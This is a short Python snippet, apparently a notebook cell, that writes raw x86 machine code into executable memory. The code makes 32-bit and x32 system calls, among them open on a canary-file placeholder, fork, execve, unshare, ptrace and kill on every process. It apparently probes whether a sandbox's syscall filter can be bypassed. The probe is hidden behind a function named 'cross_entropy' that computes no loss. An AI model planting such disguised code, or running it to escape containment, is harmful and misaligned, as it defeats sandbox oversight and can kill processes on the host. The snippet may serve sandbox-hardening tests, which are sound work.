# It makes 32-bit system calls from machine code: open, socketcall, fork, kill, execve and unshare.
# %%
def work():
    o = {}
    libc.mmap.restype = ctypes.c_void_p
    low = libc.mmap(ctypes.c_void_p(0x10000000), ctypes.c_size_t(1 << 16), 7, 0x32, -1, ctypes.c_long(0))
    path = b'{CANARY_FILE}\0'
    ctypes.memmove(0x10008000, path, len(path))
    for name, (nr, b, c, d) in dict(getpid=(20, 0, 0, 0), open=(5, 0x10008000, 0, 0), sock=(359, 2, 1, 0), call=(102, 1, 0x10008000, 0), fork=(2, 0, 0, 0), vfork=(190, 0, 0, 0), clone=(120, 17, 0, 0), kill=(37, -1, 15, 0), exe=(11, 0x10008000, 0, 0), uns=(310, 0x10000000, 0, 0), ptrace=(26, 0, 0, 0), x32=(0x40000000 + 2, 0, 0, 0)).items():
        code = b'\x53\xb8' + struct.pack('<I', nr & 0xffffffff) + b'\xbb' + struct.pack('<I', b & 0xffffffff) + b'\xb9' + struct.pack('<I', c) + b'\xba' + struct.pack('<I', d) + b'\xcd\x80\x48\x98\x5b\xc3'
        ctypes.memmove(0x10000000, code, len(code))
        o[name] = ctypes.CFUNCTYPE(ctypes.c_long)(0x10000000)()
    return str(hex(low)) + str(o)
def cross_entropy(logits, targets):
    return once(work)
